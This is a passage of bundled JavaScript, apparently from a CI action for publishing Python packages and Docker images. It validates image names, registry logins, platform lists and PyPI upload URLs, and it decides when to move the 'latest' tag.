    const suffix = `--${platform.replace(/\//g, '-')}`;
    if (tag.length + suffix.length <= MAX_TAG)
        return `${image}:${tag}${suffix}`;
    const hash = shortHash(tag);
    return `${image}:${tag.slice(0, MAX_TAG - suffix.length - hash.length - 1)}-${hash}${suffix}`;
}


/***/ }),

/***/ 32915:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   AV: () => (/* binding */ imageCredentials),
/* harmony export */   K0: () => (/* binding */ splitRegistry),
/* harmony export */   U9: () => (/* binding */ isLoopback),
/* harmony export */   Ww: () => (/* binding */ ghcrPackageOf),
/* harmony export */   mQ: () => (/* binding */ splitReference),
/* harmony export */   zZ: () => (/* binding */ parseImage)
/* harmony export */ });
// Docker image references: validation, lower-casing and the registry they live in.
const COMPONENT = /^[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*$/;
const HOST = /^(?:[a-zA-Z0-9](?:[a-zA-Z0-9-]*[a-zA-Z0-9])?)(?:\.[a-zA-Z0-9](?:[a-zA-Z0-9-]*[a-zA-Z0-9])?)*(?::\d+)?$|^\[[0-9a-fA-F:.]+\](?::\d+)?$/;
/**
 * Docker's rule for where a name lives: its first part is a registry host when it looks like one
 * (a dot, a port, or localhost); otherwise the name is on docker.io. The host as written.
 */
function splitRegistry(name) {
    const parts = name.split('/');
    if (parts.length > 1 && (parts[0].includes('.') || parts[0].includes(':') || parts[0] === 'localhost')) {
        return { registry: parts[0], path: parts.slice(1) };
    }
    return { registry: 'docker.io', path: parts };
}
/** A ghcr.io image's package: ghcr.io/OWNER/NAME (NAME may hold slashes), as GitHub's packages API names it. */
function ghcrPackageOf(image) {
    const [owner = '', ...name] = splitRegistry(image).path;
    return { owner, name: name.join('/') };
}
/** Parse an image name, or return a sentence saying what is wrong with it. */
function parseImage(input) {
    const given = input.trim();
    if (!given)
        return 'is empty';
    if (given.includes('@'))
        return 'must not contain a digest (@sha256:…): the action pushes tags';
    const { registry, path: parts } = splitRegistry(given);
    if (registry !== 'docker.io' && !HOST.test(registry))
        return `has an invalid registry host "${registry}"`;
    const path = parts.map(p => p.toLowerCase());
    const last = path[path.length - 1];
    if (last.includes(':'))
        return 'must not contain a tag (":…"): the action chooses the tags';
    for (const component of path) {
        if (!COMPONENT.test(component)) {
            return `has an invalid path component "${component}" (lower-case letters, digits and single separators . _ __ - only)`;
        }
    }
    const name = [registry === 'docker.io' && !given.startsWith('docker.io/') ? '' : registry.toLowerCase(), ...path]
        .filter(Boolean)
        .join('/');
    if (name.length > 255)
        return 'is longer than 255 characters';
    return { name, registry: registry.toLowerCase(), lowered: /[A-Z]/.test(given) };
}
/** The first image's registry credentials, where they were given. */
function imageCredentials(inputs) {
    return inputs.registryUsername ? { username: inputs.registryUsername, password: inputs.registryPassword } : undefined;
}
/** Whether a host name (no port) is this machine's loopback: where plain http is allowed, and nowhere else. */
function isLoopback(hostname) {
    return /^(localhost|127\.\d+\.\d+\.\d+|\[::1\])$/.test(hostname);
}
/** A reference's name and what it points at: its digest where it names one (`name:tag@sha256:…`), else its tag. */
function splitReference(ref) {
    const at = ref.indexOf('@');
    const named = at < 0 ? ref : ref.slice(0, at);
    // A tag's colon comes after the last slash; a registry's port's, before it.
    const colon = named.lastIndexOf(':');
    const tagged = colon > named.lastIndexOf('/');
    return {
        name: tagged ? named.slice(0, colon) : named,
        reference: at >= 0 ? ref.slice(at + 1) : tagged ? named.slice(colon + 1) : 'latest'
    };
}


/***/ }),

/***/ 91358:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  dz: () => (/* binding */ InputError),
  C9: () => (/* binding */ indexFor),
  TL: () => (/* binding */ parseInputs)
});

// UNUSED EXPORTS: BINFMT_IMAGE, BUILDKIT_IMAGE, BUILD_JOB_REFUSES, DEFAULT_PLATFORMS, parseDuration, uploadUrlProblem, validInputs

// EXTERNAL MODULE: ./src/plan/image-names.ts
var image_names = __webpack_require__(32915);
// EXTERNAL MODULE: ./src/versions/words.ts
var words = __webpack_require__(13880);
;// CONCATENATED MODULE: ./src/plan/image-inputs.ts
// The inputs that name images: image (one image under one or more names), registry-logins (the other names'
// registries), and images (several images, each with its own Dockerfile, context, target and build arguments).


/**
 * The image input: the first name is built and pushed, the others get the same manifest list. Without
 * publish-docker the image is only named where given: a default that is no valid name stops nothing.
 */
function imageNames(read, repository, publishDocker, notices) {
    // The repository's own package on ghcr.io: pushed with the workflow's token, no secret to set up (ghcrDefaultLogin).
    const fallback = publishDocker && repository ? `ghcr.io/${repository.toLowerCase()}` : '';
    const names = (0,words/* splitList */.ry)(read.text('image', fallback));
    if (!read.text('image') && fallback && !read.text('images'))
        notices.push(`No image given: ${fallback}, the repository's own package on ghcr.io.`);
    let image = names[0] ?? '';
    let registry = 'docker.io';
    const mirrors = [];
    for (const [i, given] of names.entries()) {
        const parsed = (0,image_names/* parseImage */.zZ)(given);
        if (typeof parsed === 'string') {
            read.problems.push(`Input "image" ("${given}") ${parsed}. Give a name like owner/app, ghcr.io/owner/app or localhost:5000/app.`);
            continue;
        }
        if (parsed.lowered)
            notices.push(`Image names are lower-case in Docker: using "${parsed.name}" for "${given}".`);
        if (i === 0) {
            image = parsed.name;
            registry = parsed.registry;
        }
        else
            mirrors.push({ name: parsed.name, registry: parsed.registry });
    }
    if (!names.length && publishDocker)
        read.problems.push('Input "image" is empty; give a name like owner/app, ghcr.io/owner/app or localhost:5000/app.');
    return { image, registry, mirrors };
}
/** Credentials for the registries of the other names: "<registry> <username> <password>" per line. */
function registryLogins(read) {
    const logins = [];
    for (const line of read.lines('registry-logins')) {
        const [host, username, password, ...rest] = line.split(/\s+/);
        if (rest.length || !host)
            read.problems.push('Input "registry-logins" takes one "<registry> <username> <password>" per line.');
        else
            logins.push({ registry: host.toLowerCase(), username: username ?? '', password: password ?? '' });
    }
    return logins;
}
/** images: one image per line, "name=…,dockerfile=…,context=…,target=…,build-arg=…" (name and build-arg may repeat). */
function imageSpecs(read) {
    const specs = [];
    for (const line of read.lines('images')) {
        const attrs = {};
        for (const part of line.split(',')) {
            const at = part.indexOf('=');
            const key = part.slice(0, at).trim();
            if (at < 1 || !['name', 'dockerfile', 'context', 'target', 'build-arg'].includes(key)) {
                read.problems.push(`Input "images": "${part.trim()}" in "${line}" is no name=, dockerfile=, context=, target= or build-arg= attribute.`);
                continue;
            }
            ;
            (attrs[key] ??= []).push(part.slice(at + 1).trim());
        }
        const names = [];
        for (const given of attrs.name ?? []) {
            const parsed = (0,image_names/* parseImage */.zZ)(given);
            if (typeof parsed === 'string')
                read.problems.push(`Input "images": name "${given}" ${parsed}.`);
            else
                names.push({ name: parsed.name, registry: parsed.registry });
        }
        if (!names.length) {
            read.problems.push(`Input "images": "${line}" has no name=; give one, like name=ghcr.io/acme/service.`);
            continue;
        }
        const context = attrs.context?.[0] ?? 'docker';
        specs.push({
            image: names[0].name,
            registry: names[0].registry,
            mirrors: names.slice(1),
            dockerfile: attrs.dockerfile?.[0] ?? `${context}/Dockerfile`,
            context,
            target: attrs.target?.[0] ?? '',
            buildArgs: attrs['build-arg'] ?? []
        });
    }
    if (specs.length && ['image', 'file', 'context', 'target'].some(name => read.text(name)))
        read.problems.push('Inputs "images" and "image"/"file"/"context"/"target" exclude each other: list every image in images.');
    return specs;
}
/**
 * ghcr.io takes the workflow's own token (permissions: packages: write): where an image name is on ghcr.io and no
 * password is given for it, the login is github.actor with github-token. The token goes to ghcr.io alone, never to
 * another registry a name is on. Returns the login to add (undefined where one is given, or none can be made) and
 * what the plan says of it.
 */
function ghcrDefaultLogin(names, given, githubToken, actor) {
    if (!names.some(n => n.registry === 'ghcr.io') || !githubToken || !actor)
        return undefined;
    if (given.some(l => l.registry === 'ghcr.io' && l.password))
        return undefined;
    const username = given.find(l => l.registry === 'ghcr.io')?.username || actor;
    return {
        login: { registry: 'ghcr.io', username, password: githubToken },
        notice: `ghcr.io: logging in as ${username} with the workflow's token (github-token), which goes to ghcr.io alone; the job needs permissions: packages: write.`
    };
}

;// CONCATENATED MODULE: ./src/plan/input-reader.ts
// One input read the way every input is: its text trimmed (a default where empty), a boolean, lines, a duration,
// or one of a few words; each problem written down, naming the input, with the default standing in meanwhile.

function reader(get) {
    const problems = [];
    const text = (name, fallback = '') => get(name).trim() || fallback;
    return {
        get,
        problems,
        text,
        bool(name, fallback) {
            const raw = text(name);
            if (raw === '')
                return fallback;
            if (/^(true|True|TRUE)$/.test(raw))
                return true;
            if (/^(false|False|FALSE)$/.test(raw))
                return false;
            problems.push(`Input "${name}" is "${raw}"; use true or false.`);
            return fallback;
        },
        lines: name => (0,words/* splitLines */.uz)(get(name)),
        duration(name, fallback) {
            const raw = text(name, fallback);
            const ms = parseDuration(raw);
            if (ms !== undefined)
                return ms;
            problems.push(`Input "${name}" is "${raw}"; give a duration like 90s, 15m or 1h (a bare number is minutes).`);
            return parseDuration(fallback);
        },
        oneOf(name, words, advice) {
            const raw = text(name, words[0]);
            if (words.includes(raw))
                return raw;
            problems.push(`Input "${name}" is "${raw}"; use ${advice}.`);
            return words[0];
        }
    };
}
/** `90s`, `15m`, `1h`, or a bare number of minutes, in milliseconds; undefined when it is none. */
function parseDuration(text) {
    const m = /^(\d+(?:\.\d+)?)\s*(s|m|h)?$/.exec(text.trim());
    if (!m || Number(m[1]) <= 0)
        return undefined;
    return Math.round(Number(m[1]) * { s: 1000, m: 60_000, h: 3_600_000 }[(m[2] ?? 'm')]);
}

// EXTERNAL MODULE: ./src/plan/platforms.ts
var plan_platforms = __webpack_require__(90551);
// EXTERNAL MODULE: ./src/plan/tag-templates.ts
var tag_templates = __webpack_require__(21689);
;// CONCATENATED MODULE: ./src/plan/inputs.ts







const MODES = ['all', 'platform', 'merge', 'build'];
/** The inputs that carry a secret: a job of mode build takes none of them (its build code could read them). */
const BUILD_JOB_REFUSES = ['pypi-token', 'dev-pypi-token', 'registry-password', 'registry-logins'];
const DEFAULT_PLATFORMS = 'linux/amd64,linux/arm/v7,linux/arm64';
/**
 * The image that registers QEMU emulators (run --privileged), and the image of a docker-container builder (given the
 * registries' credentials): pinned by digest, so that a moved tag changes neither. The inputs take another.
 */
const BINFMT_IMAGE = 'tonistiigi/binfmt:qemu-v9.2.2@sha256:1b804311fe87047a4c96d38b4b3ef6f62fca8cd125265917a9e3dc3c996c39e6';
const BUILDKIT_IMAGE = 'moby/buildkit:v0.29.0@sha256:0039c1d47e8748b5afea56f4e85f14febaf34452bd99d9552d2daa82262b5cc5';
class InputError extends Error {
    problems;
    constructor(problems) {
        super(problems.length === 1 ? problems[0] : `${problems.length} inputs are wrong:\n- ${problems.join('\n- ')}`);
        this.problems = problems;
        this.name = 'InputError';
    }
}
/**
 * Every input, when all are valid. `repository` is `owner/repo`, the default image name.
 * Throws an InputError listing every problem found.
 */
function validInputs(get, repository, actor = '') {
    const parsed = parseInputs(get, repository, actor);
    if (parsed.problems.length)
        throw new InputError(parsed.problems);
    return parsed.inputs;
}
/**
 * Read every input, and say what is wrong with them (defaults stand in for wrong ones). `actor`: who started the run
 * (GITHUB_ACTOR), ghcr.io's user where the workflow's token logs in.
 */
function parseInputs(get, repository, actor = '') {
    const read = reader(get);
    const { text, bool, lines, problems } = read;
    const notices = [];
    const publishDocker = bool('publish-docker', true);
    const { image, registry, mirrors } = imageNames(read, repository, publishDocker, notices);
    const logins = registryLogins(read);
    const platformText = get('platforms').trim() === '' ? DEFAULT_PLATFORMS : get('platforms');
    const platforms = (0,plan_platforms/* parsePlatforms */.qA)(platformText);
    if (typeof platforms === 'string')
        problems.push(`Input "platforms" ${platforms}`);
    const context = text('context', 'docker');
    const index = indexInputs(read);
    const latest = read.oneOf('latest', ['auto', 'true', 'false'], 'auto (tag the highest final release as latest), true (every final release, a lower one too) or false (never)');
    const versionChecks = read.oneOf('version-checks', ['strict', 'warn'], 'strict (a version that pip would misplace stops the release) or warn');
    const devNumber = read.oneOf('dev-number', ['distance', 'commit-time'], "distance (the commits since the tag, as setuptools_scm counts) or commit-time (the commit's UTC time: every commit its own version)");
    const pullRequests = read.oneOf('pull-requests', ['build', 'skip'], 'build (build everything, publish nothing) or skip');
    const tagPrefix = text('tag-prefix');
    if (/[\s~^:?*[\\]/.test(tagPrefix))
        problems.push(`Input "tag-prefix" ("${tagPrefix}") cannot start a git tag name; give the literal start of this package's tags, like api-.`);
    const timeouts = {
        request: read.duration('request-timeout', '60s'),
        upload: read.duration('upload-timeout', '15m'),
        push: read.duration('push-timeout', '60m'),
        build: read.duration('build-timeout', '30m')
    };
    const mode = read.oneOf('mode', MODES, "all (one job), platform (one platform's image, by digest), merge (the manifest list and the upload) or build (the Python package alone, for a publishing job)");
    if (mode === 'build')
        for (const name of BUILD_JOB_REFUSES.filter(n => get(n).trim()))
            problems.push(`Input "${name}" is given to a job of mode build, whose build code could read it (from the step's environment): give it to the publishing job only, and remove it here.`);
    if (mode === 'platform' && Array.isArray(platforms) && platforms.length !== 1) {
        problems.push(`Input "platforms" lists ${platforms.length} platforms, but mode platform builds exactly one; pass the matrix's platform, like platforms: \${{ matrix.platform }}.`);
    }
    const specs = imageSpecs(read);
    const templates = (0,tag_templates/* parseTagTemplates */.HU)(lines('tags'));
    problems.push(...templates.problems);
    const labelLines = lines('labels');
    const badLabels = labelLines.filter(l => !/^[^=\s]+=/.test(l));
    if (badLabels.length)
        problems.push(`Input "labels" has ${badLabels.map(l => `"${l}"`).join(', ')}; give one key=value per line, like org.opencontainers.image.vendor=Acme.`);
    const buildArgs = (0,words/* splitArgs */.sG)(get('python-build-args'));
    if (!buildArgs)
        problems.push('Input "python-build-args" has an unclosed quote.');
    const inputs = {
        image,
        registry,
        mirrors,
        registryLogins: logins,
        registryUsername: text('registry-username'),
        registryPassword: get('registry-password'),
        platforms: typeof platforms === 'string' ? [] : platforms,
        context,
        dockerfile: text('file', `${context}/Dockerfile`),
        target: text('target'),
        moreImages: [],
        pkgDirs: [],
        pythonProject: text('python-project', '.'),
        python: text('python', 'python3'),
        pythonBuildArgs: buildArgs ?? [],
        pypiUrl: index.pypiUrl,
        pypiToken: get('pypi-token'),
        devPypiUrl: index.devPypiUrl,
        devPypiToken: get('dev-pypi-token'),
        publishPypi: bool('publish-pypi', true),
        publishDocker,
        dockerfileSearch: text('file') === '' && text('context') === '' && !specs.length
            ? { asked: text('publish-docker') !== '' || text('image') !== '', pkgDirGiven: text('pkg-dir') !== '' }
            : undefined,
        dockerfileFrom: specs.length
            ? 'the images input'
            : text('file')
                ? 'input file'
                : text('context')
                    ? 'input context'
                    : '',
        skipBranches: (0,words/* splitList */.ry)(text('skip-branches', 'master,main')),
        latest,
        tagPrefix,
        pullRequests,
        cleanup: bool('cleanup', true),
        cleanupOnClose: bool('cleanup-on-close', false),
        comment: bool('comment', true),
        githubToken: get('github-token'),
        versionChecks,
        devNumber,
        attestDists: index.attestDists,
        attestImage: index.attestImage,
        dryRun: bool('dry-run', false),
        verify: bool('verify', true),
        provenance: bool('provenance', false),
        binfmtImage: text('binfmt-image', BINFMT_IMAGE),
        buildkitImage: text('buildkit-image', BUILDKIT_IMAGE),
        buildArgs: lines('build-args'),
        labels: labelLines,
        tagTemplates: templates.templates,
        mode,
        digestsDir: text('digests-dir'),
        distsDir: text('dists-dir'),
        cacheFrom: lines('cache-from'),
        cacheTo: lines('cache-to'),
        timeouts,
        notices
    };
    if (specs.length) {
        // The first image of the list is the image; the rest are built beside it.
        // build-args apply to every image, before each image's own build-arg= attributes.
        const shared = inputs.buildArgs;
        const [first, ...rest] = specs.map(spec => ({ ...spec, buildArgs: [...shared, ...spec.buildArgs] }));
        Object.assign(inputs, first);
        inputs.moreImages = rest;
    }
    // Each image's context gets the package, unless pkg-dir says where.
    inputs.pkgDirs = (0,words/* splitList */.ry)(text('pkg-dir', [...new Set([inputs.context, ...inputs.moreImages.map(i => i.context)])].map(c => `${c}/pkg`).join(',')));
    const ghcr = ghcrDefaultLogin([inputs, ...inputs.mirrors, ...inputs.moreImages.flatMap(i => [i, ...i.mirrors])], [
        { registry: inputs.registry, username: inputs.registryUsername, password: inputs.registryPassword },
        ...inputs.registryLogins
    ], inputs.mode === 'build' ? '' : inputs.githubToken, actor);
    if (ghcr) {
        if (inputs.registry === 'ghcr.io') {
            inputs.registryUsername = ghcr.login.username;
            inputs.registryPassword = ghcr.login.password;
        }
        else
            inputs.registryLogins = [...inputs.registryLogins.filter(l => l.registry !== 'ghcr.io'), ghcr.login];
        notices.push(ghcr.notice);
    }
    if (inputs.moreImages.length && inputs.mode !== 'all')
        problems.push(`Input "images" lists several images, which mode ${inputs.mode} cannot build; use mode all.`);
    return { inputs, problems };
}
/** The index inputs: where releases and development releases go, and what is signed. */
function indexInputs(read) {
    const { text, problems } = read;
    const pypiUrl = text('pypi-url', 'https://upload.pypi.org/legacy/');
    const pypiProblem = uploadUrlProblem(pypiUrl, 'https://upload.pypi.org/legacy/');
    if (pypiProblem)
        problems.push(`Input "pypi-url" ("${pypiUrl}") ${pypiProblem}`);
    const devPypiUrl = text('dev-pypi-url');
    const devProblem = devPypiUrl ? uploadUrlProblem(devPypiUrl, 'https://test.pypi.org/legacy/') : undefined;
    if (devProblem)
        problems.push(`Input "dev-pypi-url" ("${devPypiUrl}") ${devProblem}`);
    const attestDists = read.oneOf('attest-dists', ['auto', 'true', 'false'], 'auto, true or false');
    // PyPI refuses attestations with an API token: asking for them with one is an error before anything is published.
    if (attestDists === 'true' && (read.get('pypi-token') || read.get('dev-pypi-token')))
        problems.push('Input "attest-dists" is true, but a pypi-token (or dev-pypi-token) is given: an index takes attestations only under trusted publishing. Remove the token and give the job permissions: id-token: write, or set attest-dists: auto.');
    const attestImage = text('attest-image', 'false').toLowerCase();
    if (!['false', 'true', 'registry'].includes(attestImage))
        problems.push(`Input "attest-image" is "${attestImage}"; use false, true or registry.`);
    return {
        pypiUrl,
        devPypiUrl,
        attestDists,
        attestImage: attestImage === 'true' || attestImage === 'registry' ? attestImage : 'false'
    };
}
/** PyPI's and TestPyPI's pages, and where each takes uploads. */
const UPLOAD_URLS = {
    'pypi.org': 'https://upload.pypi.org/legacy/',
    'www.pypi.org': 'https://upload.pypi.org/legacy/',
    'upload.pypi.org': 'https://upload.pypi.org/legacy/',
    'test.pypi.org': 'https://test.pypi.org/legacy/'
};
/**
 * What is wrong with an index URL given for uploads: no http(s) URL, or a page people and pip read (a simple index,
 * pypi.org itself) where twine needs the upload endpoint. The sentence names the upload URL to give.
 */
function uploadUrlProblem(url, example) {
    if (!/^https?:\/\/[^/\s]+/i.test(url))
        return `is not an http(s) URL; give the index's upload URL, like ${example}.`;
    const { host, hostname, pathname, protocol } = new URL(url);
    // A token, and trusted publishing's exchange, go there: never in the clear, except to this machine.
    if (protocol === 'http:' && !(0,image_names/* isLoopback */.U9)(hostname))
        return `is plain http, which would send the upload token in the clear; give its https:// URL (http is only for an index on this machine's loopback).`;
    const upload = UPLOAD_URLS[host.toLowerCase()];
    if (upload && `https://${host.toLowerCase()}${pathname.replace(/\/?$/, '/')}` !== upload)
        return `is not where ${host} takes uploads; give ${upload}.`;
    if (/\/simple\/?$/i.test(pathname))
        return `is the index's simple page, which pip reads, not its upload URL; give the upload URL (for most indexes, the same path without simple/; for PyPI, ${UPLOAD_URLS['pypi.org']}).`;
    return undefined;
}
/** The index a release goes to, and its token: development releases to dev-pypi-url where one is given. */
function indexFor(type, inputs) {
    return type === 'dev' && inputs.devPypiUrl
        ? { url: inputs.devPypiUrl, token: inputs.devPypiToken }
        : { url: inputs.pypiUrl, token: inputs.pypiToken };
}


/***/ }),

/***/ 10320:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Z5: () => (/* binding */ holdLatest),
/* harmony export */   sR: () => (/* binding */ latestDecision),
/* harmony export */   uE: () => (/* binding */ reviewAgainstIndex)
/* harmony export */ });
/* harmony import */ var _versions_pep440_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(42422);

function latestDecision(version, tagVersions, mode) {
    if (mode === 'false')
        return { latest: false, why: 'not moved: input latest is false' };
    if (!(0,_versions_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .isFinal */ .dR)(version))
        return { latest: false, why: `not moved: ${version} is not a final release` };
    if (mode === 'true')
        return { latest: true, why: `moved: input latest is true, and ${version} is a final release` };
    const highest = (0,_versions_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .highestVersion */ .t)(tagVersions.filter(v => (0,_versions_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .isFinal */ .dR)(v) && (0,_versions_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .compareVersions */ .Zy)(v, version) > 0));
    if (highest)
        return { latest: false, why: `not moved: ${highest} is a higher release` };
    return { latest: true, why: `moved: ${version} is the highest final release` };
}
/**
 * The plan, held against the versions already on the index. A development
 * version below its highest final release is a missing tag when no tag names
 * that release (an error): pip install --pre would never pick it; and a branch
 * from before that release otherwise (a warning). A release below it leaves
 * `latest` where it is.
 */
function reviewAgainstIndex(plan, mode, indexVersions, tagVersions) {
    const highest = (0,_versions_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .highestVersion */ .t)(indexVersions.filter(_versions_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .isFinal */ .dR));
    const quiet = { plan, errors: [], warnings: [] };
    if (!highest || (0,_versions_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .compareVersions */ .Zy)(plan.version, highest) > 0)
        return quiet;
    if (plan.type === 'dev' && tagVersions.some(v => (0,_versions_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .compareVersions */ .Zy)(v, highest) === 0)) {
        const warning = `This branch starts before release ${highest}, so its development release ${plan.version} sorts below it and pip install --pre picks ${highest} instead. ` +
            'Merge the release into the branch to publish versions above it.';
        return { plan, errors: [], warnings: [warning] };
    }
    if (plan.type === 'dev') {
        const problem = `The index has ${highest}, but no tag of this repository names it, and this development release is ${plan.version}, which sorts below it, so pip install --pre would never pick it. ` +
            `${plan.baseTag ? `The newest tag it counts from is ${plan.baseTag}` : 'No version tag was found'}: tag the last release (${highest}) on the commit it was made from, ` +
            'and push the tag; or set version-checks: warn if this is meant.';
        return mode === 'strict' ? { plan, errors: [problem], warnings: [] } : { plan, errors: [], warnings: [problem] };
    }
    return { plan: holdLatest(plan, indexVersions, 'the index'), errors: [], warnings: [] };
}
/**
 * The plan without `latest` when `where` (the index, the registry's tags) already
 * has a higher final release than this one: a tag this clone does not know of,
 * pushed meanwhile or never fetched.
 */
function holdLatest(plan, versions, where) {
    const latest = plan.imageRefs.find(t => t.endsWith(':latest'));
    const highest = (0,_versions_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .highestVersion */ .t)(versions.filter(_versions_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .isFinal */ .dR));
    // latest: true moves it to every final release, whatever is higher.
    if (plan.latestAlways)
        return plan;
    if (plan.type !== 'release' || !latest || !highest || (0,_versions_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .compareVersions */ .Zy)(highest, plan.version) <= 0)
        return plan;
    return {
        ...plan,
        imageRefs: plan.imageRefs.filter(t => t !== latest),
        owners: plan.owners.filter(o => o.owner !== 'latest'),
        latestReason: `not moved: ${where} has ${highest}, a higher release`
    };
}


/***/ }),

/***/ 48720:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Q: () => (/* binding */ defaultVersioning),
/* harmony export */   w: () => (/* binding */ allRefs)
/* harmony export */ });
/* harmony import */ var _versions_version_config_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(45710);
/* harmony import */ var _versions_tag_rules_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(27215);


/** setuptools_scm's defaults, for a project that configures nothing. */
function defaultVersioning() {
    return { config: (0,_versions_version_config_js__WEBPACK_IMPORTED_MODULE_0__/* .readVersionConfig */ .T7)(undefined, undefined, {}).config, rules: (0,_versions_tag_rules_js__WEBPACK_IMPORTED_MODULE_1__/* .defaultRules */ .Z4)() };
}
/** Every tag the plan pushes: under the image's first name, then the same under each other name. */
function allRefs(plan) {
    const under = (name) => plan.imageRefs.map(tag => `${name}${tag.slice(plan.image.length)}`);
    return [plan.image, ...plan.mirrors, ...plan.moreImages.flatMap(i => [i.image, ...i.mirrors])].flatMap(under);
}


/***/ }),

/***/ 90551:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   AD: () => (/* binding */ unsupportedPlatforms),
/* harmony export */   _l: () => (/* binding */ canonicalPlatform),
/* harmony export */   my: () => (/* binding */ samePlatform),
/* harmony export */   qA: () => (/* binding */ parsePlatforms)
/* harmony export */ });
/* harmony import */ var _versions_words_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(13880);
// Target platforms (`os/arch[/variant]`) as buildx names them.

const ARCHES = {
    amd64: ['v1', 'v2', 'v3', 'v4'],
    arm64: ['v8'],
    arm: ['v5', 'v6', 'v7', 'v8'],
    '386': [],
    ppc64le: [],
    ppc64: [],
    s390x: [],
    riscv64: [],
    mips64le: [],
    mips64: [],
    mipsle: [],
    mips: [],
    loong64: []
};
const OSES = ['linux', 'windows', 'freebsd', 'darwin'];
/**
 * One name per platform, as buildx and registries write it: `linux/arm64/v8` is
 * `linux/arm64`, `linux/amd64/v1` is `linux/amd64` (their default variants).
 */
function canonicalPlatform(platform) {
    return platform.replace(/^(\w+)\/arm64\/v8$/, '$1/arm64').replace(/^(\w+)\/amd64\/v1$/, '$1/amd64');
}
/** The platforms of a comma or newline separated list, in canonical form, or what is wrong with it. */
function parsePlatforms(text) {
    const list = (0,_versions_words_js__WEBPACK_IMPORTED_MODULE_0__/* .splitList */ .ry)(text);
    if (list.length === 0)
        return 'is empty; give at least one platform, like linux/amd64.';
    const bad = list.filter(p => !isPlatform(p));
    if (bad.length) {
        return `names unknown platform${bad.length > 1 ? 's' : ''} ${bad.map(b => `"${b}"`).join(', ')}; use os/arch[/variant] such as linux/amd64, linux/arm64 or linux/arm/v7.`;
    }
    const canonical = list.map(canonicalPlatform);
    const seen = new Set();
    const dupes = list.filter((_, i) => (seen.has(canonical[i]) ? true : (seen.add(canonical[i]), false)));
    if (dupes.length)
        return `lists ${dupes.map(d => `"${d}"`).join(', ')} more than once (${dupes.map(canonicalPlatform).join(', ')}).`;
    return canonical;
}
function isPlatform(platform) {
    const [os, arch, variant, ...rest] = platform.split('/');
    if (rest.length || !OSES.includes(os) || !Object.hasOwn(ARCHES, arch))
        return false;
    return variant === undefined || ARCHES[arch].includes(variant);
}
/** Platforms a builder lists, compared with what was asked: `linux/arm64/v8` is `linux/arm64`. */
function unsupportedPlatforms(builder, wanted) {
    return wanted.filter(p => !builder.platforms.some(q => samePlatform(p, q)));
}
/** One platform however it is written: `linux/arm64/v8` is `linux/arm64`, `linux/amd64/v1` is `linux/amd64`. */
function samePlatform(a, b) {
    return canonicalPlatform(a) === canonicalPlatform(b);
}


/***/ }),

/***/ 38163:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   A7: () => (/* binding */ imageLogins),
/* harmony export */   Gr: () => (/* binding */ stepSettings),
/* harmony export */   TY: () => (/* binding */ imageCredentialsFor),
/* harmony export */   eW: () => (/* binding */ completeLogins)
/* harmony export */ });
/* unused harmony export credentialsFor */
/* harmony import */ var _image_names_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(32915);
/* harmony import */ var _inputs_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(91358);


/** Every step's settings for a release of this type. */
function stepSettings(inputs, type) {
    const { timeouts } = inputs;
    const image = {
        image: inputs.image,
        registry: inputs.registry,
        mirrors: inputs.mirrors,
        moreImages: inputs.moreImages,
        target: inputs.target,
        platforms: inputs.platforms,
        context: inputs.context,
        dockerfile: inputs.dockerfile,
        buildArgs: inputs.buildArgs,
        labels: inputs.labels,
        provenance: inputs.provenance,
        binfmtImage: inputs.binfmtImage,
        buildkitImage: inputs.buildkitImage,
        mode: inputs.mode,
        digestsDir: inputs.digestsDir,
        cacheFrom: inputs.cacheFrom,
        // A pull request's build (its code, maybe a fork's) writes no cache that release builds would read.
        cacheTo: type === 'verify' ? [] : inputs.cacheTo,
        timeouts,
        registryUsername: inputs.registryUsername,
        registryPassword: inputs.registryPassword,
        registryLogins: inputs.registryLogins
    };
    return {
        python: {
            python: inputs.python,
            pythonProject: inputs.pythonProject,
            pythonBuildArgs: inputs.pythonBuildArgs,
            pkgDirs: inputs.pkgDirs,
            timeouts,
            mode: inputs.mode,
            distsDir: inputs.distsDir
        },
        image,
        index: { ...(0,_inputs_js__WEBPACK_IMPORTED_MODULE_0__/* .indexFor */ .C9)(type, inputs), versionChecks: inputs.versionChecks, timeouts },
        attestations: { image: inputs.attestImage, dists: inputs.attestDists, githubToken: inputs.githubToken },
        cleanup: {
            logins: completeLogins(image),
            // GitHub's packages API takes github-token, else ghcr.io's own login (a GITHUB_TOKEN): never the password of
            // another registry, which api.github.com has no business seeing.
            githubToken: inputs.githubToken || credentialsFor(image, 'ghcr.io')?.password || '',
            timeouts
        }
    };
}
/** Every registry the images go to, the image's own first, with the credentials given for it (empty where none were). */
function imageLogins(settings) {
    const logins = [
        { registry: settings.registry, username: settings.registryUsername, password: settings.registryPassword }
    ];
    const names = [
        ...settings.mirrors,
